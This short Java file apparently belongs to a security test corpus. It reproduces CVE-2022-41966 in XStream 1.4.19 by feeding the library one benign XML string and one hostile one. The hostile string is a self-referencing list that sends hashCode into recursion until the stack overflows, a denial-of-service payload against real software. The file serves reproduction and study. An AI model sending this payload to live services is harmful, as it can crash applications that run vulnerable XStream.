package corpus.xstreamhash;

import com.thoughtworks.xstream.XStream;
import corpus.CorpusDriver;

/**
 * XStream 1.4.19, CVE-2022-41966: a list that contains itself (a back reference, {@code ..}),
 * unmarshalled as an element of a set, is added to a {@code HashSet} by XStream's
 * {@code CollectionConverter}, and {@code ArrayList#hashCode} recurses into itself until the stack
 * runs out. The recursion is entirely inside {@code java.util}, entered from library code (1.4.20
 * catches the overflow and reports an {@code XStreamException}).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        CorpusDriver.run("xstreamhash", XStream.class,
                () -> new XStream().fromXML("<set><list><string>benign</string><int>1</int></list></set>"),
                () -> new XStream().fromXML("<set><list><list reference=\"..\"/></list></set>"));
    }
}
